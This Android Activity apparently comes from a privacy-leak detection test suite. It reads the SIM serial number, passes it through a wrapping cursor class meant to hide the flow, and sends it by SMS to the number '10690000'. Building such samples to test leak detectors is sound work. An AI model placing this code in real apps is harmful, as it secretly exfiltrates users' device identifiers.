package cn.privlens.suite.wrapped_cursor_hides;

import android.app.Activity;
import android.database.Cursor;
import android.database.MatrixCursor;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        MatrixCursor rows = new MatrixCursor(new String[] {"id"});
        rows.addRow(new Object[] {((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber()});
        Cursor wrapped = new Hiding(rows);
        if (wrapped.moveToFirst()) {
            SmsManager.getDefault().sendTextMessage("10690000", null, wrapped.getString(0), null, null);
        }
    }
}
